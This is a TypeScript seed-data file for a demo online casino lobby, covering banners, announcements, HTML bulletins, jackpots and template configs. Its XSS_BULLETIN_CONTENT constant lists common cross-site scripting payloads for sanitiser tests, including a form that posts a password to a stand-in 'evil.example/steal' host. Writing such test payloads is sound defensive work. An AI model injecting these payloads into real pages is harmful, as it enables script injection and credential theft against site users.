import type { Insertable } from 'kysely'
import { BANNER_SIZE, type GameLinkParameter } from '@lobby/api/contract'
import type {
  AnnouncementTable,
  BannerTable,
  BulletinTable,
  ContentItemTable,
  JackpotTable,
  SiteSettingsTable,
} from '../db/schema.ts'
import { mediaUrl } from '../media/urls.ts'
import { DEMO_SITE } from './catalogue.ts'

/**
 * The demo brand's lobby content. Fixed ids and timestamps, so every fresh
 * database is identical and tests may name rows by id.
 */
const SITE = DEMO_SITE.site_id
const SEEDED_AT = '2024-06-01T00:00:00.000Z'

export const ENV_CONFIG = {
  is_demo: false,
  game_room: true,
  popular_page: true,
  desktop_template: 'site02',
  mobile_template: 'H5_1',
  ssl_url: '',
  url: '',
  site_variant: '',
  // The demo brand ships no native app yet: /app offers the web app (add to home screen).
  app_ios_url: '',
  app_android_url: '',
  // The operator forces Dealer's Lantern (live) into the modal and Axolotl Reels into a window (spec section 4).
  provider_open_modes: { GPDL: 'modal', GPAX: 'window' },
}

export const CUSTOMER_SERVICE_LINK = 'https://support.example.com/chat'

export function siteSettingsRows(): SiteSettingsTable[] {
  return [
    {
      site_id: SITE,
      customer_service_link: CUSTOMER_SERVICE_LINK,
      env_config: JSON.stringify(ENV_CONFIG),
      bulletin_display_frequency: 1,
    },
  ]
}

const usdSlot: GameLinkParameter = {
  currency: 'USD',
  gt_id: 2,
  gp_id: 'GPR8',
  game_type: 2,
  game_code: '',
  gp_gt_name: 'R8 Slot',
  customized: 0,
}

interface BannerSeed {
  title: string
  url: string
  link_type: 0 | 1 | 2
  link_method?: 0 | 1
  game_link_parameter?: GameLinkParameter
}

/** Desktop banners get ids 1-7 and the same banners on mobile 8-14, in this order. */
export const BANNER_SEEDS: readonly BannerSeed[] = [
  { title: 'Welcome bonus: see the promotions', url: '/discount', link_type: 1 },
  {
    title: 'Reel Eight Studios: 2,400 slots',
    url: '/slotgame?gt_id=2&gp_id=GPR8&house=0',
    link_type: 2,
    game_link_parameter: usdSlot,
  },
  { title: 'Our sponsor: match day', url: 'https://sponsor.example.com/match-day', link_type: 0, link_method: 1 },
  {
    title: 'Comet Crash: cash out in time',
    url: '/slotgame?gt_id=2&gp_id=GPCR&house=1&isCrashGame=true',
    link_type: 2,
    game_link_parameter: {
      currency: 'USD',
      gt_id: 2,
      gp_id: 'GPCR',
      game_type: 2,
      game_code: 'cr0001',
      gp_gt_name: 'CR Slot',
      customized: 1,
    },
  },
  {
    title: 'RMB players: Fable Craft festival',
    url: '/slotgame?gt_id=2&gp_id=GPFC&house=0',
    link_type: 2,
    game_link_parameter: { ...usdSlot, currency: 'RMB', gp_id: 'GPFC', gp_gt_name: 'FC Slot' },
  },
  { title: 'Become an agent', url: '/proxy?page=Register', link_type: 1 },
  { title: 'Lucky week (no link)', url: '', link_type: 0 },
]

export function bannerRows(): Insertable<BannerTable>[] {
  const rows: Insertable<BannerTable>[] = []
  for (const useType of [1, 2] as const) {
    BANNER_SEEDS.forEach((b, index) => {
      rows.push({
        id: rows.length + 1,
        site_id: SITE,
        use_type: useType,
        sort: index + 1,
        title: b.title,
        url: b.url,
        link_type: b.link_type,
        link_method: b.link_method ?? 0,
        game_link_parameter: b.game_link_parameter ? JSON.stringify(b.game_link_parameter) : null,
        currency: b.game_link_parameter?.currency ?? null,
        ...BANNER_SIZE[useType],
        version: 1,
      })
    })
  }
  return rows
}

export function announcementRows(): Insertable<AnnouncementTable>[] {
  const items: [string, 0 | 1, 0 | 1][] = [
    ['Welcome to Lobby! Try any demo game without signing up.', 1, 1],
    ['New: Reel Eight Studios adds 2,400 slots to the lobby.', 1, 1],
    ['Members: your weekly cash back is credited every Monday.', 0, 1],
    ['Sign up today and claim the welcome bonus.', 1, 0],
    ['Scheduled maintenance of Velvet Room Live on Sunday 02:00-04:00 UTC.', 1, 1],
  ]
  return items.map(([content, before, after], index) => ({
    id: index + 1,
    site_id: SITE,
    content,
    display_before_login: before,
    display_after_login: after,
    // Sort runs opposite to id for two entries so the sort field visibly matters.
    sort: [3, 1, 2, 5, 4][index] ?? index,
    created_at: `2024-06-0${index + 1}T08:00:00.000Z`,
  }))
}

export function bulletinRows(): Insertable<BulletinTable>[] {
  // Every row names every column: one multi-row INSERT leaves a column some rows omit NULL in SQLite.
  return BULLETIN_SEEDS.map((row) => ({ target: 'all', display_location: 2, ...row }))
}

const BULLETIN_SEEDS: Insertable<BulletinTable>[] = [
  {
    id: 1,
    site_id: SITE,
    display_device: 0,
    display_content: 'Welcome to Lobby',
    content:
      '<p>Thank you for visiting <strong>Lobby</strong>. Every category is open, and the demo providers can be played <em>without an account</em>.</p>' +
      '<ul><li>8 categories</li><li>21 providers</li><li>Thousands of slots</li></ul>' +
      '<p>Read the <a href="https://help.example.com/rules" target="_blank" rel="noopener">house rules</a> or open <a href="/faq">the FAQ</a>.</p>',
    start_at: SEEDED_AT,
    end_at: null,
    updated_at: '2024-06-01T08:00:00.000Z',
  },
  {
    id: 2,
    site_id: SITE,
    display_device: 1,
    display_content: 'Desktop: the new game room',
    content:
      '<h3>Game room</h3><p>On desktop, slot providers now open in the <b>game room</b>.<br>Pick a provider from the slot category to try it.</p>',
    start_at: SEEDED_AT,
    end_at: null,
    updated_at: '2024-06-02T08:00:00.000Z',
  },
  {
    id: 3,
    site_id: SITE,
    display_device: 2,
    display_content: 'Mobile: add Lobby to your home screen',
    content:
      '<p>Tap <strong>Share</strong>, then <em>Add to Home Screen</em>.</p><p style="color:#e5b33a">Faster start, full screen.</p>',
    start_at: SEEDED_AT,
    end_at: null,
    updated_at: '2024-06-03T08:00:00.000Z',
  },
  {
    id: 4,
    site_id: SITE,
    display_device: 0,
    display_content: 'Maintenance finished',
    content: '<p>The maintenance of 30 June has finished. Thank you for your patience.</p>',
    start_at: SEEDED_AT,
    end_at: '2024-07-01T00:00:00.000Z',
    updated_at: '2024-06-30T08:00:00.000Z',
  },
  {
    id: 5,
    site_id: SITE,
    display_device: 0,
    display_content: 'Deposit offer',
    content:
      '<table><thead><tr><th>Deposit</th><th>Bonus</th></tr></thead><tbody><tr><td>$20</td><td>10%</td></tr><tr><td>$100</td><td>15%</td></tr></tbody></table>' +
      `<p><img src="${mediaUrl.banner(1, 1)}" alt="Promotion" width="300" height="100"></p>`,
    start_at: SEEDED_AT,
    end_at: null,
    updated_at: '2024-06-04T08:00:00.000Z',
  },
  // Members only (`/arks/web/bulletin/member`): 6 on the site's pages, 7 on the deposit page.
  {
    id: 6,
    site_id: SITE,
    display_device: 0,
    display_content: 'Members: weekly cashback',
    content:
      "<p>Every Monday, <strong>5%</strong> of last week's net losses comes back to your wallet.</p>" +
      '<p>See <a href="/discount">the promotions</a> for the terms.</p>',
    start_at: SEEDED_AT,
    end_at: null,
    updated_at: '2024-06-05T08:00:00.000Z',
    target: 'members',
    display_location: 2,
  },
  {
    id: 7,
    site_id: SITE,
    display_device: 0,
    display_content: 'Deposit: bank transfers take up to 10 minutes',
    content: '<p>Bank transfers are credited within <strong>10 minutes</strong>. Keep your receipt until then.</p>',
    start_at: SEEDED_AT,
    end_at: null,
    updated_at: '2024-06-05T09:00:00.000Z',
    target: 'members',
    display_location: 3,
  },
]

/** The usual XSS payloads, for the client's sanitiser tests (dev hook preset `xss`, never seeded). */
export const XSS_BULLETIN_CONTENT = [
  '<p>Harmless text <strong>stays</strong>.</p>',
  '<img src=x onerror="window.__xss=(window.__xss||0)+1">',
  '<script>window.__xss=(window.__xss||0)+1</script>',
  '<a href="javascript:window.__xss=(window.__xss||0)+1">click me</a>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
  '<svg onload="window.__xss=(window.__xss||0)+1"><circle r="5"></circle></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<div onclick="window.__xss=1" style="background:url(javascript:window.__xss=1)">div with handlers</div>',
].join('\n')

const JACKPOT_BASE_AT = Date.UTC(2024, 5, 1)
const THIRTY_DAYS = 30 * 24 * 3600 * 1000

export function jackpotRows(): JackpotTable[] {
  return [
    {
      currency: 'USD',
      base_amount: 50_000_000,
      base_at: JACKPOT_BASE_AT,
      increment_per_second: 37,
      cycle_ms: THIRTY_DAYS,
    },
    {
      currency: 'RMB',
      base_amount: 350_000_000,
      base_at: JACKPOT_BASE_AT,
      increment_per_second: 260,
      cycle_ms: THIRTY_DAYS,
    },
    {
      currency: 'VND',
      base_amount: 1_200_000_000,
      base_at: JACKPOT_BASE_AT,
      increment_per_second: 950,
      cycle_ms: THIRTY_DAYS,
    },
  ]
}

type Item = Insertable<ContentItemTable>

export function contentItemRows(): Item[] {
  const rows: Item[] = []
  const add = (item: Omit<Item, 'id' | 'site_id'>, photo?: { width: number; height: number }) => {
    const id = rows.length + 1
    // Every column spelled out: a multi-row INSERT fills missing ones with NULL, not the default.
    rows.push({
      id,
      site_id: SITE,
      language: '',
      template: '',
      sort: 0,
      key: '',
      title: '',
      content: '',
      photo_path: '',
      url: '',
      width: 0,
      height: 0,
      flag: 0,
      ...item,
      ...(photo ? { photo_path: mediaUrl.content(id), width: photo.width, height: photo.height } : {}),
    })
  }

  // Logos
  for (const [key, width, height] of [
    ['desktop', 200, 60],
    ['mobile', 160, 48],
    ['favicon', 64, 64],
    ['loading', 120, 120],
  ] as const) {
    add({ kind: 'logo', key, title: 'Lobby', photo_path: mediaUrl.logo(key), width, height, sort: rows.length })
  }

  // Ads (model_setting), sponsors, login content, per language
  const ads: Record<string, string[]> = {
    en_US: ['Weekend reload bonus', 'Refer a friend', 'Slots tournament'],
    zh_CN: ['周末充值奖励', '推荐好友'],
    vi_VN: ['Thưởng nạp cuối tuần', 'Giới thiệu bạn bè'],
  }
  for (const [language, titles] of Object.entries(ads)) {
    titles.forEach((title, sort) =>
      add({ kind: 'setting', language, title, content: title, url: '/discount', sort }, { width: 600, height: 800 }),
    )
  }
  const sponsors: Record<string, string[]> = {
    en_US: ['Harbour City FC', 'Northern Lights Esports', 'Lotus Racing', 'Blue Ridge Boxing'],
    zh_CN: ['海港城足球俱乐部', '北极光电竞'],
  }
  for (const [language, titles] of Object.entries(sponsors)) {
    titles.forEach((title, sort) =>
      add(
        {
          kind: 'sponsor',
          language,
          title,
          content: `${title} is proud to partner with Lobby.`,
          url: `https://sponsor.example.com/${sort + 1}`,
          sort,
        },
        { width: 640, height: 360 },
      ),
    )
  }
  const login: Record<string, [string, string][]> = {
    en_US: [
      ['Play responsibly', 'Set a deposit limit in your account centre at any time.'],
      ['Secure login', 'We never ask for your password by message or phone.'],
    ],
    zh_CN: [['理性游戏', '您可以随时在会员中心设置存款限额。']],
  }
  for (const [language, items] of Object.entries(login)) {
    items.forEach(([title, content], sort) => add({ kind: 'login', language, title, content, sort }))
  }

  // Footer
  for (const [group, title, url] of [
    ['about', 'About us', '/faq/1'],
    ['help', 'Help centre', '/faq'],
    ['help', 'Responsible gaming', '/faq/2'],
    ['partner', 'Become an agent', '/proxy'],
    ['license', 'Licence', 'https://licence.example.com/lobby'],
  ] as const) {
    add({ kind: 'footer', key: group, title, url, sort: rows.length }, { width: 96, height: 32 })
  }

  // Mobile footer (every template)
  for (const [key, title, url, needLogin] of [
    ['home', 'Home', '/', 0],
    ['deposit', 'Deposit', '/Deposit', 1],
    ['withdrawal', 'Withdrawal', '/user/Withdrawal', 1],
    ['wallet', 'Wallet', '/user/MyWallet', 1],
    ['signup', 'Sign up', '/register', 0],
    ['service', 'Service', CUSTOMER_SERVICE_LINK, 0],
  ] as const) {
    add({ kind: 'mobile_footer', key, title, url, flag: needLogin, sort: rows.length }, { width: 48, height: 48 })
  }

  // Float
  add({ kind: 'float', key: 'left', title: 'Download the app', url: '/app', sort: 1 }, { width: 120, height: 240 })
  add(
    { kind: 'float', key: 'right', title: 'Customer service', url: CUSTOMER_SERVICE_LINK, sort: 2 },
    {
      width: 120,
      height: 240,
    },
  )

  // Register background: H5_1 and H5_2 have one, the others none
  for (const template of ['H5_1', 'H5_2']) {
    add({ kind: 'register_background', template, title: `Register ${template}` }, { width: 750, height: 1334 })
  }
  return rows
}

/** Mobile template looks answered by `/api/template_config`. */
export const TEMPLATE_CONFIGS: Record<
  string,
  { home_modules: string[]; game_nav: 'tabs' | 'grid'; brand_theme: string }
> = {
  H5_1: {
    home_modules: ['banner', 'marquee', 'jackpot', 'game_nav', 'hot_games'],
    game_nav: 'tabs',
    brand_theme: 'lobby',
  },
  H5_2: { home_modules: ['banner', 'marquee', 'game_nav', 'hot_games'], game_nav: 'grid', brand_theme: 'lobby' },
  H5_3: { home_modules: ['banner', 'jackpot', 'game_nav'], game_nav: 'tabs', brand_theme: 'lobby' },
  H5_4: { home_modules: ['banner', 'marquee', 'game_nav'], game_nav: 'grid', brand_theme: 'lobby' },
  H5_5: { home_modules: ['banner', 'marquee', 'jackpot', 'game_nav'], game_nav: 'tabs', brand_theme: 'lobby' },
  H5_6: { home_modules: ['banner', 'game_nav', 'hot_games'], game_nav: 'grid', brand_theme: 'lobby' },
  H5_7: {
    home_modules: ['banner', 'marquee', 'jackpot', 'game_nav', 'hot_games'],
    game_nav: 'tabs',
    brand_theme: 'lobby',
  },
  H5_8: { home_modules: ['banner', 'marquee', 'game_nav'], game_nav: 'tabs', brand_theme: 'lobby' },
}
